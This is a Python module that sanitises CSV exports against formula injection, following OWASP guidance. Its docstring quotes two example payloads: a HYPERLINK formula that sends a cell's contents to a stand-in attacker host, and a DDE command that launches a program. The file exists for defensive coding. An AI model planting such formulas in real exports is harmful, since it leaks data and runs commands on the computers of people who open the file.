"""Every CSV file Polku writes goes through ``to_csv`` — the ONE place where cells are made
safe to open in a spreadsheet.

CSV (formula) injection: Excel, LibreOffice Calc and Google Sheets run a cell whose text starts
with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or carriage return, what follows it) as a
formula, e.g. a withdrawal reason ``=HYPERLINK("https://evil.example/?"&A1)`` or
``+1+cmd|' /C calc'!A0`` in a ministry export. Following OWASP's CSV injection guidance:

* a text cell that starts with one of those characters (also after leading spaces, which some
  spreadsheets trim, and NUL or a line feed) gets a single quote in front, which spreadsheets
  read as "this is text" and do not show;
* every text cell is quoted, so a separator inside the text (``,`` or the ``;`` of a Finnish
  spreadsheet) can never start a new cell that begins with a formula; quotes are doubled.

Numbers are not text: an ``int``, ``float`` or ``Decimal`` is written as it is, unquoted, so
a genuine ``-3`` stays a number. Text that merely looks like a number (``"-3"``) is text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# OWASP's list (= + - @ tab CR), plus NUL (OWASP ASVS) and line feed.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def safe_cell(value: Any) -> str | int | float | Decimal:
    """A value as a CSV cell: numbers as they are, anything else as text that no spreadsheet
    reads as a formula. ``None`` is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.lstrip(" ").startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def to_csv(rows: Iterable[Iterable[Any]]) -> str:
    """Rows (the header first) as CSV text: every cell through ``safe_cell``, text quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()
